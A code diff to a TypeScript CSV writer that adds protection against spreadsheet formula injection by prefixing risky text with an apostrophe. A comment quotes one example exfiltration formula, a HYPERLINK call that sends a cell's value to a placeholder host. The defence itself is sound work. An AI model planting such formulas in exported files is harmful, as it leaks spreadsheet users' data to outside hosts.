@@ -1,5 +1,6 @@
 // CSV as RFC 4180 writes it (CRLF line ends; a field with a comma, quote or line break is quoted,
-// quotes doubled) and a parser for the same, so an exported table can be read back.
+// quotes doubled) and a parser for the same, so an exported table can be read back. Every CSV the
+// app writes goes through csvField, which also defuses text a spreadsheet would run as a formula.
 
 export type CsvCell = string | number | boolean | null;
 
@@ -8,9 +9,18 @@ export function toCsv(rows: readonly (readonly CsvCell[])[]): string {
   return rows.map((row) => row.map(csvField).join(',')).join('\r\n') + '\r\n';
 }
 
-function csvField(cell: CsvCell): string {
+/**
+ * Text a spreadsheet reads as a formula (OWASP's list: = + - @, tab, CR) gets a leading `'`, so a
+ * model answer or a model id like `=HYPERLINK("http://x/?"&A1)` shows as text instead of running.
+ * Numbers are written as numbers, negative ones included: only text can carry a formula.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** One field, quoted when it needs to be and never a formula. */
+export function csvField(cell: CsvCell): string {
   // A figure that could not be measured (NaN) is an empty cell, as spreadsheets expect.
-  const text = cell === null || (typeof cell === 'number' && !Number.isFinite(cell)) ? '' : String(cell);
+  if (cell === null || (typeof cell === 'number' && !Number.isFinite(cell))) return '';
+  const text = typeof cell === 'string' && FORMULA_START.test(cell) ? `'${cell}` : String(cell);
   return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
 }
 
